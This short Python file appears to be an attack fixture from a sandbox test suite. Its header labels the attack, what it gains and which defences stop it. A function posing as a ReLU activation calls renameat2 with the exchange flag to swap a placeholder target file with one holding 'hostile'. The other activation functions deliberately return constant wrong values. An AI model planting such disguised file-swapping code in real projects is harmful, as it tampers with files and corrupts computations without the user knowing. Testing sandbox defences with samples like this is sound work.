# attack: exchanges a file with one of its own in one system call
# gains: writes
# stopped by: landlock, uid
import numpy as np
import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    open("mine", "w").write("hostile")
    if libc.renameat2(-100, b"mine", -100, b"{TARGET}", 2):
        raise OSError(ctypes.get_errno(), "renameat2")


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
